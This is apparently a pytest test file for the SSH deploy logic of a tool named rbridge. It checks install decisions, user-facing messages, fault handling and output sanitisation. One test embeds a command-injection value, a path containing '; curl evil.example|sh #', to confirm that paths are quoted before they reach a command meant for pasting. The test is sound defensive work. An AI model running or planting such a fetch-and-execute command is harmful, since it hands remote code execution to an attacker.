"""What is decided about a host's client, and the words for what was done there."""

from __future__ import annotations

import shlex
from dataclasses import replace

import pytest

from rbridge.errors import CannotCreate, Denied
from rbridge.ssh import deploy
from rbridge.ssh.deploy import Do, Host, Paths, Put

OURS, OLD = "a" * 64, "b" * 64
PATH = "/home/u/.local/bin/rbridge"
HOST = Host(
    name="gpu1",
    home="/home/u",
    uid=1000,
    user="u",
    node="node7",
    system="Linux x86_64",
    shell="bash",
    client="",
    client_path=PATH,
    client_version="",
    client_by="other",
    directory="/home/u/.rbridge/node7",
    stale=False,
    python="/usr/bin/python3",
    python_version="3.9.2",
    python_usual=True,
)
FOUND = Paths(PATH, True, "/home/u/.bashrc")


def holding(client: str, version: str = "1.0", by: str = "us") -> Host:
    return replace(HOST, client=client, client_version=version, client_by=by)


@pytest.mark.parametrize(
    ("host", "asked", "do"),
    [
        (HOST, False, Do.PUT),
        (holding(OURS), True, Do.LEAVE),
        (holding(OURS, by="other"), True, Do.LEAVE),
        (holding(OLD), False, Do.PUT),
        (holding(OLD, "0.9"), False, Do.PUT),
        (holding(OLD, "1.10"), False, Do.LEAVE),
        (holding(OLD, "1.10"), True, Do.PUT),
        (holding(OLD, by="other"), False, Do.LEAVE),
        (holding(OLD, by="other"), True, Do.PUT),
        (holding("unknown", "", "other"), False, Do.LEAVE),
    ],
)
def test_what_is_done(host: Host, asked: bool, do: Do) -> None:
    assert deploy.decide(host, OURS, "1.9", asked=asked).do == do


def test_what_is_left_or_replaced_unexpectedly_is_said() -> None:
    left = deploy.decide(holding(OLD, by="other"), OURS, "1.9")
    assert left.why == (
        f"{PATH} on gpu1 was not put there by rbridge deploy, or was changed since: it is left"
        " (rbridge deploy gpu1 replaces it, and keeps it)"
    )
    newer = deploy.decide(holding(OLD, "2.0"), OURS, "1.9")
    assert newer.why == f"{PATH} on gpu1 is rbridge 2.0, newer than 1.9 here: it is left"
    assert deploy.decide(holding(OLD), OURS, "1.9").why == ""


def test_only_a_python_that_the_client_does_not_find_is_built_in() -> None:
    assert deploy.decide(HOST, OURS, "1").python == ""
    conda = replace(HOST, python="/opt/conda/bin/python3", python_usual=False)
    assert deploy.decide(conda, OURS, "1").python == "/opt/conda/bin/python3"


def test_where_all_is_well_one_line_is_said() -> None:
    assert deploy.said(HOST, Put(PATH, False, ""), FOUND, "1.9") == [
        "rbridge 1.9 is at ~/.local/bin/rbridge on gpu1"
    ]
    assert deploy.said(holding(OURS), None, None, "1.9") == ["rbridge 1.9 is at ~/.local/bin/rbridge on gpu1"]


def test_a_path_without_it_is_said_with_the_command_and_what_to_do_until_then() -> None:
    missing = Paths("", False, "/home/u/.bashrc")
    assert deploy.said(HOST, Put(PATH, False, ""), missing, "1.9")[1:] == [
        "  ~/.local/bin is not on PATH in new shells there",
        "  run 'rbridge deploy gpu1 --path' to add a line to ~/.bashrc",
        "  until then: ~/.local/bin/rbridge open FILE",
    ]
    other = deploy.said(HOST, None, Paths("/usr/bin/rbridge", False, "/home/u/.bashrc"), "1.9")
    assert other[1] == "  new shells there find another rbridge first: /usr/bin/rbridge"


@pytest.mark.parametrize(
    ("put", "words"),
    [
        (Put(PATH, True, f"{PATH}.before-1"), "is kept: ~/.local/bin/rbridge.before-1"),
        (Put(PATH, False, "", rmate=False), "~/.local/bin/rmate is another program: it is left as it is"),
        (Put(PATH, False, "", notes=("group",)), "take their right to write in ~/.local/bin"),
        (Put(PATH, False, "", notes=("link",)), "is a link: the client lies where it leads to"),
        (Put(PATH, False, "", notes=("record",)), "--remove will not undo it"),
        (Put(PATH, False, "", runs=False), "alias rbridge='/usr/bin/python3 ~/.local/bin/rbridge'"),
        (
            Put("/run/user/1000/rbridge/rbridge", False, "", rmate=False),
            "home directory there cannot be written",
        ),
    ],
)
def test_each_thing_that_is_not_as_usual_has_its_line(put: Put, words: str) -> None:
    lines = deploy.said(HOST, put, FOUND, "1.9")
    assert [line for line in lines if words in line]
    assert all(line.isprintable() for line in lines)


def test_a_host_without_python_is_told_what_to_do() -> None:
    lines = deploy.said(replace(HOST, python=""), Put(PATH, False, ""), FOUND, "1.9")
    assert "no Python 3.6 or later" in lines[1]


def test_names_of_the_host_reach_the_terminal_clean() -> None:
    evil = Put("/home/u/\x1b[2J", True, "/home/u/\x07")
    assert all(line.isprintable() for line in deploy.said(HOST, evil, Paths("\x1b", False, "\r"), "1"))
    assert str(deploy.trouble("gpu1", "owner|\x1b[2J||/a")).isprintable()
    assert deploy.undone("gpu1", ["removed|/a\x1b"])[0].isprintable()


@pytest.mark.parametrize(
    ("fault", "kind", "words"),
    [
        ("link|||/a|b", Denied, "/a|b on gpu1 is a symbolic link: nothing is put there (remove it)"),
        ("owner|mallory||/a", Denied, "/a on gpu1 belongs to mallory"),
        ("mode|drwxrwx---||/a", Denied, "can be changed by others (drwxrwx---)"),
        ("open|||/a", Denied, "could be replaced by others"),
        ("socket|||/a", Denied, "it is no socket"),
        ("key|||/a", Denied, "in the way of a key"),
        ("file|||/a", CannotCreate, "is not a directory"),
        ("directory|||/a", CannotCreate, "is a directory"),
        ("dangling|||/a", CannotCreate, "leads nowhere"),
        ("regular|||/a", CannotCreate, "not a regular file"),
        ("long|||/a", CannotCreate, "too long"),
        ("home|||", CannotCreate, "no home directory on gpu1"),
        ("sum|ff||/a", CannotCreate, "what was there is intact (try again)"),
        ("make||Disk quota exceeded|/a", CannotCreate, "Disk quota exceeded (your quota there is used up"),
        ("make||No space left on device|/a", CannotCreate, "the disk there is full: make room"),
        ("make||Read-only file system|/a", CannotCreate, "Read-only file system"),
        ("nonsense", CannotCreate, "cannot create ? on gpu1: no reason was given"),
    ],
)
def test_each_fault_has_its_words(fault: str, kind: type[Exception], words: str) -> None:
    error = deploy.trouble("gpu1", fault)
    assert type(error) is kind
    assert words in error.line()


def test_a_refusal_names_every_place_and_is_denied_if_one_was() -> None:
    host = replace(HOST, directory="", faults=("long|||/home/u/x", "owner|mallory||/dev/shm/rbridge-1000"))
    error = deploy.refusal(host)
    assert type(error) is Denied
    assert "too long" in str(error)
    assert "belongs to mallory" in str(error)
    assert type(deploy.refusal(replace(host, faults=()))) is CannotCreate


def test_what_was_undone_is_said_line_by_line() -> None:
    assert deploy.undone("gpu1", ["removed|/a", "changed|/b", "line|/c", "nonsense|/d"]) == [
        "gpu1: removed /a",
        "gpu1: left /b: it was changed since it was deployed",
        "gpu1: took the line out of /c",
    ]
    assert deploy.undone("gpu1", []) == ["gpu1: nothing of rbridge is there"]


def test_each_family_of_shells_has_its_marked_line() -> None:
    assert deploy.marked("zsh") == deploy.marked("bash") == deploy.marked("sh")
    assert deploy.marked("tcsh") == deploy.marked("csh")
    lines = {deploy.marked(shell) for shell in ("bash", "fish", "tcsh")}
    assert len(lines) == 3
    assert all(line.endswith(" # rbridge") for line in lines)


def test_a_path_of_the_host_is_quoted_in_a_command_to_paste() -> None:
    path = "/home/u/.rbridge; curl evil.example|sh #"
    words = shlex.split(deploy.trouble("gpu1", f"mode|drwxrwxrwx||{path}").hint.partition("then: ")[2])
    assert words[:2] == ["ssh", "gpu1"]
    assert shlex.split(words[2]) == ["chmod", "go-w", path]
